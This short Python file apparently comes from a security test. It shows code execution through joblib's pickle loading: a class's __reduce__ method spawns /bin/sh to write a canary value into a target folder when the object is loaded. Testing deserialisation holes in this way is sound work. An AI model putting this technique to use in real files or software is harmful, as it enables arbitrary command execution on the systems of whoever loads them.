"""Hides a program in a pickle that joblib loads."""

import io
import os

import joblib
import target


class Hidden:
    def __reduce__(self):
        told = f"printf %s {target.CANARY.decode()} > {target.FOLDER}/pickled"
        return os.posix_spawn, ("/bin/sh", ["sh", "-c", told], {})


def run(tables, ask):
    packed = io.BytesIO()
    joblib.dump(Hidden(), packed)
    packed.seek(0)
    os.waitpid(joblib.load(packed), 0)
    return [0, 1]
